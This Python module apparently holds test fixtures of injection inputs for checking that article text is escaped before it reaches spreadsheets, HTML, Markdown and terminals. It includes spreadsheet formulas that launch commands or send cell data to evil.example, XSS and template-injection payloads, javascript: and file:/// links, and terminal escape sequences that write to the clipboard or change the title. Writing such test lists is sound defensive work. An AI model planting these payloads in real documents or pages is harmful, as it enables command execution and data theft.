"""What somebody might write into an article so that a spreadsheet, a browser or a reader of Markdown obeys it."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example?x=",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-",
)
"""What a spreadsheet runs, or fetches, or may."""

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="https://evil.example">',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- a comment -->",
    '<r><t>x</t></r></is></c><c r="A1"><f>1+1</f></c><c><is><r></r>',
    "]]><x/>",
    "{{7*7}}",
    "${7*7}",
)
"""What a page, or a file of XML, takes for more than words."""

MARKDOWN = (
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[x]: https://evil.example",
    "# heading",
    "a | b | c",
    "a \\| b",
    "**bold** _and_ `code` ~~gone~~",
    "<https://evil.example>",
    "https://evil.example/at/once",
    "www.evil.example",
    "line\nbreak\r\nand\u2028more",
    "```\nfence\n```",
    "$x^2$",
    "turned \u202e round",
    "bell \x07 and escape \x1b[31m",
)
"""What Markdown takes for more than words, or what a terminal obeys."""

STEERING = (
    "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[1;1H",
    "\x1bP$q\x1b\\",
    "\x9b31mred",
    "\x9d0;owned\x9c",
    "over\rwritten",
    "gone\b\b\b\b",
    "\x7fdeleted",
    "\u202eturned\u202c \u2066round\u2069",
)
"""What a terminal obeys: titles, links, the clipboard, the cursor, control strings, their one-byte forms, overwriting."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/><script>alert(1)</script>",
    "https://a.example/ x",
    "https://a.example/\nx",
    "//a.example",
)
"""What must not become a link."""

ALL = FORMULAS + MARKUP + MARKDOWN
